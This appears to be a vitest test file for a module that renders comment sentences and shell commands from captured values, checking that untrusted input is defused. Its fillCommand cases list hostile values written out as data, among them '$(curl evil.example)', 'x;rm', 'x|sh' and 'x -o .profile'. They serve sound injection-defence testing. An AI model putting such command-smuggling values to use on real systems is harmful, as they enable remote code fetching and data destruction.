import { describe, expect, test } from 'vitest'
import { endSentence, fillCommand, renderAuthored, renderMessage } from '../../../src/core/comments/authored.ts'
import { hostileTexts } from '../../support/hostile-text.ts'
import { kindsIn, textOutsideCode } from '../../support/markdown.ts'

describe("a signature's sentences", () => {
  test.each([
    ['keep their code', 'Look at `scopes=` in the log.', {}, 'Look at `scopes=` in the log.'],
    ['show a value as code', 'The scope {{scope}} is missing.', { scope: 'user:x' }, 'The scope `user:x` is missing.'],
    ['insert a value into code', 'See `scope={{scope}}`.', { scope: 'user:x' }, 'See `scope=user:x`.'],
    ['show a value alone in code like a value in a sentence', 'It is `{{a}}`.', { a: 'x' }, 'It is `x`.'],
    ['quote a value without a strict shape, defused', 'It is `{{a}}`.', { a: 'a`b' }, 'It is “a…b”.'],
    [
      'quote words that a shell would run, with special characters replaced',
      'It is {{a}}.',
      { a: 'x|sh y; $(z)' },
      'It is “x…sh y; …z…”.',
    ],
    [
      'keep a placeholder in code for a value without a strict shape',
      'Run `get {{a-b}}`.',
      { 'a-b': 'x;y' },
      'Run `get YOUR_A_B`.',
    ],
    ['put a plain value into a command as a quoted argument', 'Run `get {{a}}`.', { a: 'x.y' }, "Run `get 'x.y'`."],
    [
      'keep a placeholder in a name for a value without a strict shape',
      'See `a={{a}}`.',
      { a: '$(x)' },
      'See `a=YOUR_A`.',
    ],
    ['separate adjacent values', '{{a}}{{b}}', { a: '1', b: '2' }, '`1` `2`'],
    ['drop a sentence whose value is missing', 'It lists {{a}}. Then stop.', {}, 'Then stop.'],
    [
      'drop the rest of a sentence from the part with a missing value',
      '`{{a}}` is in the list; yours has `{{b}}`',
      { a: '1' },
      '`1` is in the list.',
    ],
    [
      'drop the whole sentence when the value of its first part is missing',
      '`{{a}}` is in the list; yours has `{{b}}`',
      { b: '1' },
      '',
    ],
    ['treat an empty value as missing', 'It is {{a}}.', { a: ' ' }, ''],
    ['ignore inherited object properties', 'It is {{constructor}}.', {}, ''],
    ['drop a sentence with a broken placeholder', 'It is {{a. Stop.', { a: '1' }, 'Stop.'],
    ['do not expand a placeholder inside a value', 'It is {{a}}.', { a: '{{b}}', b: '2' }, 'It is “…b…”.'],
    ['do not end inside code', 'Run `a. b; {{x}}`. Then stop.', {}, 'Then stop.'],
    ['defuse mentions and references', 'Update @scope/package, see #12.', {}, 'Update `@scope/package`, see `#12`.'],
  ])('%s', (_, text, captures, expected) => {
    expect(renderAuthored(text, captures)).toBe(expected)
  })

  test('render hostile values as nothing but text and code', () => {
    for (const scope of hostileTexts(1_000)) {
      const markdown = renderAuthored('Yours is {{scope}}, not `{{scope}}` or `x={{scope}}`; {{scope}}{{scope}}.', {
        scope,
      })
      expect(['inlineCode', 'paragraph', 'root', 'text']).toEqual(expect.arrayContaining(kindsIn(markdown)))
      expect(textOutsideCode(markdown)).not.toMatch(/@[a-z0-9]|#\d|\{\{/i)
    }
  })

  test.each([
    ['The list', 'The list.'],
    ['Is it there?', 'Is it there?'],
    ['It is `a`', 'It is `a`.'],
    ['', ''],
  ])('end with a full stop: %j', (text, expected) => {
    expect(endSentence(text)).toBe(expected)
  })
})

test('a message keeps the placeholders that it mentions', () => {
  const message = '`{{a}}` is in code, {{b}} is not; see @octocat'
  expect(renderMessage(message)).toBe('`{{a}}` is in code, `{{b}}` is not; see `@octocat`')
})

describe("a signature's commands", () => {
  test.each([
    ['a plain word', 'mcp.example.com', "curl -i https://'mcp.example.com'/mcp"],
    ['nothing', undefined, 'curl -i https://YOUR_SERVER_HOST/mcp'],
    ['a substitution', '$(curl evil.example)', 'curl -i https://YOUR_SERVER_HOST/mcp'],
    ['a second command', 'x;rm', 'curl -i https://YOUR_SERVER_HOST/mcp'],
    ['a pipe', 'x|sh', 'curl -i https://YOUR_SERVER_HOST/mcp'],
    ['another argument', 'x -o .profile', 'curl -i https://YOUR_SERVER_HOST/mcp'],
    ['an option', '--config', 'curl -i https://YOUR_SERVER_HOST/mcp'],
    ['a quote', "x'", 'curl -i https://YOUR_SERVER_HOST/mcp'],
    ['a second line', 'x\nrm', 'curl -i https://YOUR_SERVER_HOST/mcp'],
    ['a look-alike letter', 'mсp.example.com', 'curl -i https://YOUR_SERVER_HOST/mcp'],
  ])('accept a value only if it is one plain word for a shell: %s', (_, value, expected) => {
    const captures: Record<string, string> = value === undefined ? {} : { 'server-host': value }
    expect(fillCommand('curl -i https://{{server-host}}/mcp', captures)).toBe(expected)
  })

  test.each([
    ["tcpdump 'tcp port {{port}}'", "tcpdump 'tcp port 8080'"],
    ['tcpdump "tcp port {{port}}"', 'tcpdump "tcp port 8080"'],
    ["tcpdump it\\'s {{port}}", "tcpdump it\\'s '8080'"],
    ['tcpdump "a \\" b {{port}}" {{port}}', 'tcpdump "a \\" b 8080" \'8080\''],
    ["tcpdump 'a \\' {{port}}", "tcpdump 'a \\' '8080'"],
  ])('quote a value unless it is inside quotes: %s', (command, expected) => {
    expect(fillCommand(command, { port: '8080' })).toBe(expected)
  })

  test.each([
    ["curl.exe 'http://a:{{port}}/'", "curl.exe 'http://a:8080/'"],
    ['icacls "C:\\" {{port}}', 'icacls "C:\\" \'8080\''],
    ["echo 'it''s {{port}}'", "echo 'it''s 8080'"],
    ['echo "a `" b {{port}}" {{port}}', 'echo "a `" b 8080" \'8080\''],
    ['echo `"{{port}}', "echo `\"'8080'"],
  ])('quote a value in PowerShell as PowerShell reads it: %s', (command, expected) => {
    expect(fillCommand(command, { port: '8080' }, 'powershell')).toBe(expected)
  })
})
